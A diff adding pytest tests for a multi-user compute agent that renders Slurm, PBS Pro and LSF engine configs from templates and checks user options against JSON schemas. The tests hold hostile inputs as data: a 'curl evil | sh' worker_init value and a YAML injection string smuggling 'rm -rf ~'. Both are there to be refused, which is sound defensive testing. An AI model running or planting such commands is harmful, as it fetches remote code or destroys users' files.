@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import jsonschema
 import pytest
 
 from gc_agent.config import IdentityRule
@@ -60,3 +61,79 @@ def test_a_template_cannot_reach_outside_its_sandbox() -> None:
 def test_a_template_naming_an_unknown_value_is_an_admin_error() -> None:
     with pytest.raises(ConfigError, match="user config template"):
         render_user_engine("type: processes\nmax_workers: {{ cores }}", {}, {}, account="alice")
+
+
+@pytest.mark.parametrize(("name", "provider", "queue_key"), [
+    ("slurm", "slurm", "partition"), ("pbspro", "pbspro", "queue"), ("lsf", "lsf", "queue")])
+def test_each_batch_template_renders_an_htex_engine_that_its_schema_lets_users_tune(
+        name: str, provider: str, queue_key: str) -> None:
+    from gc_agent.config import HtexEngineConfig
+
+    template = (TEMPLATES / f"{name}.yaml.j2").read_text()
+    schema = json.loads((TEMPLATES / f"{name}.schema.json").read_text())
+    jsonschema.Draft202012Validator.check_schema(schema)
+
+    engine = render_user_engine(template, schema, {}, account="alice")
+    assert isinstance(engine, HtexEngineConfig) and engine.provider.type == provider
+    tuned = render_user_engine(template, schema, {"walltime": "02:15:00", "max_blocks": 3},
+                               account="alice")
+    assert isinstance(tuned, HtexEngineConfig)
+    assert tuned.provider.walltime == "02:15:00" and tuned.provider.max_blocks == 3
+    # a value the schema refuses is named with its rule; so is a key it does not have
+    with pytest.raises(PolicyError, match="refused at walltime.*does not match"):
+        render_user_engine(template, schema, {"walltime": "2h"}, account="alice")
+    with pytest.raises(PolicyError, match="refused at max_blocks.*maximum of 4"):
+        render_user_engine(template, schema, {"max_blocks": 40}, account="alice")
+    with pytest.raises(PolicyError, match=f"refused at {queue_key}.*is not one of"):
+        render_user_engine(template, schema, {queue_key: "gpu-priority"}, account="alice")
+    with pytest.raises(PolicyError, match="worker_init"):
+        render_user_engine(template, schema, {"worker_init": "curl evil | sh"}, account="alice")
+
+
+def test_a_string_option_cannot_add_yaml_keys_to_the_rendered_engine() -> None:
+    from gc_agent.config import HtexEngineConfig
+
+    template = (TEMPLATES / "slurm.yaml.j2").read_text()
+    schema = {**json.loads((TEMPLATES / "slurm.schema.json").read_text())}
+    loose = {**schema, "properties": {**schema["properties"], "allocation": {"type": "string"}}}
+
+    engine = render_user_engine(template, loose, {"allocation": "lab\n  worker_init: rm -rf ~"},
+                                account="alice")
+
+    assert isinstance(engine, HtexEngineConfig)
+    assert engine.provider.account == "lab\n  worker_init: rm -rf ~"  # a value, not a key
+    assert engine.provider.worker_init == ""
+
+
+def test_a_threads_engine_from_a_template_is_refused_naming_the_allowed_types() -> None:
+    from gc_agent.config import MultiUserConfig
+    from gc_agent.execution import Job
+    from gc_agent.multiuser.engines import UserEngines
+
+    outcomes = []
+    engines = UserEngines(MultiUserConfig(
+        identity_mapping=[IdentityRule(match=r"(.*)@uni\.edu", output="nobody")],
+        user_config_template=TEMPLATES / "local.yaml.j2"), nominal_capacity=1)
+    engines._template = "type: threads\nmax_workers: 1"
+    engines.submit(Job("t1", "f", b"", "", "", b"", "", "", identity="x@uni.edu"), outcomes.append)
+
+    assert outcomes[0].state == "failed" and outcomes[0].error is not None
+    assert "'threads'" in outcomes[0].error.message and "'htex'" in outcomes[0].error.message
+
+
+def test_jobs_and_outcomes_cross_to_a_user_engine_as_json_and_bad_outcomes_are_refused() -> None:
+    from gc_agent.execution import Job, Outcome
+    from gc_agent.multiuser.remote import job_from_wire, job_to_wire, outcome_from_wire, outcome_to_wire
+    from gc_core.protocol import ErrorInfo
+
+    job = Job("t1", "f", b"\x80code", "3.11.2", "application/json", b"{}", "3.11.2", "cp 3",
+              resource_spec={"priority": 1}, identity="alice@uni.edu", user_options={"max_blocks": 1})
+    outcome = Outcome("t1", "failed", payload=b"\x00", error=ErrorInfo(type="E", message="m"),
+                      started=1.0, worker="n1:2 block 0 slurm job 7")
+
+    assert job_from_wire(json.loads(json.dumps(job_to_wire(job)))) == job
+    assert outcome_from_wire(json.loads(json.dumps(outcome_to_wire(outcome)))) == outcome
+    for bad in ({**outcome_to_wire(outcome), "state": "pwned"}, {"task_id": "t1"}, "not a dict",
+                {**outcome_to_wire(outcome), "payload": "%%%"}):
+        with pytest.raises(ValueError):
+            outcome_from_wire(bad)
